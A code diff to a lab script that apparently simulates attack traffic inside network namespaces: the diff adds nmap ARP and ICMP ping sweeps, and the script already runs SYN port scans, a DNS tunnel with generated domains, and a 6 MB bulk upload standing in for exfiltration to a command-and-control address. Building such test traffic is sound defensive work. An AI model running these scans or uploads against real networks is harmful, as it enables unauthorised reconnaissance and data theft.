@@ -11,7 +11,8 @@
 #                                          tunnel and generated domains
 #   dvr      10.79.0.30   00:1a:2b Ayecom   telnetd (inetutils, through a minimal inetd)
 #   scanner  10.79.0.40   e4:54:e8 Dell     attack only: nmap SYN port scan of dvr, sweep of
-#                                          10.79.2.0/27 on tcp/80
+#                                          10.79.2.0/27 on tcp/80, ARP pings of the empty
+#                                          10.79.0.64/27, ICMP pings of 10.79.2.32/27
 #   nas      10.79.0.50   00:11:32 Synology benign: small uploads; attack: 6 MB bulk upload
 #   inet     198.51.100.10 (behind gw)      accepts TCP on 443 and 8443; 198.51.100.66 is the
 #                                          attack's command-and-control address
@@ -108,6 +109,10 @@ if [ "$mode" = attack ]; then
     --queries 80 --dga 12 >"$work/tunnel.log" 2>&1
   in_ns scanner nmap -n -Pn -sS -T5 --max-retries 0 -p 1-200 10.79.0.30 >"$work/nmap1.log" 2>&1
   in_ns scanner nmap -n -Pn -sS -T5 --max-retries 0 -p 80 10.79.2.0/27 >"$work/nmap2.log" 2>&1
+  # Host discovery: ARP pings of an empty part of the LAN, ICMP echo to the routed range.
+  in_ns scanner nmap -n -sn -PR -T5 --max-retries 0 10.79.0.64/27 >"$work/nmap3.log" 2>&1
+  in_ns scanner nmap -n -sn -PE --disable-arp-ping -T5 --max-retries 0 10.79.2.32/27 \
+    >"$work/nmap4.log" 2>&1
   in_ns nas python3 "$here/beacon.py" --host 198.51.100.10 --port 443 --count 1 \
     --upload 6000000 >"$work/upload.log" 2>&1
 fi
